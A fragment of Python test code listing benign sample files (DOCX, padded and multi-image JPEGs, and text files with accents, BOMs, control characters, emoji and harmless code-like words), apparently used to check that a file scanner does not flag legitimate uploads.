    Sample("DOCX from python-docx", "Registre.docx", _bytes(docx_bytes), kind="docx"),
    Sample(
        "DOCX with a picture (python-docx)", "Affiche.docx", _bytes(docx_with_picture), kind="docx"
    ),
    Sample(
        "JPEG padded with zero bytes after EOI (camera)",
        "DSC_0042.JPG",
        _bytes(_padded_jpeg),
        kind="jpeg",
    ),
    Sample(
        "JPEG with a second image declared by MPF (phone gain map, stereo camera)",
        "IMG_0002.JPG",
        _bytes(_mpo_jpeg),
        kind="jpeg",
    ),
    Sample(
        "TXT in UTF-8 with accents",
        "notes.txt",
        _bytes("Annonce publiée à Montréal : cuisinier, 25,50 $/h.\n".encode()),
        kind="txt",
    ),
    Sample(
        "TXT in UTF-8 with a BOM",
        "notes.txt",
        _bytes(b"\xef\xbb\xbf" + "Québec, Émilie\r\n".encode()),
        kind="txt",
    ),
    Sample(
        "TXT with tabs, CRLF and a form feed",
        "notes.txt",
        _bytes(b"Date\tPlatform\r\n2026-01-15\tJob Bank\r\n\x0cPage 2\r\n"),
        kind="txt",
    ),
    Sample(
        "TXT with comparisons and emoji",
        "notes.txt",
        _bytes("wage < base rate; 3 < 4 & 5 > 2 👍 alert (amber) issued\n".encode()),
        kind="txt",
    ),
    Sample(
        "TXT with words that contain code tokens",
        "notes.txt",
        _bytes(b"Data retrieval(s) and approval(s): done; metadata:text/html; salon=yes\n"),
        kind="txt",
    ),
    Sample(
        "TXT starting with MZ (a company name)",
        "notes.txt",
        _bytes(b"MZ Logistics invoice 42\n"),
        kind="txt",
    ),
]
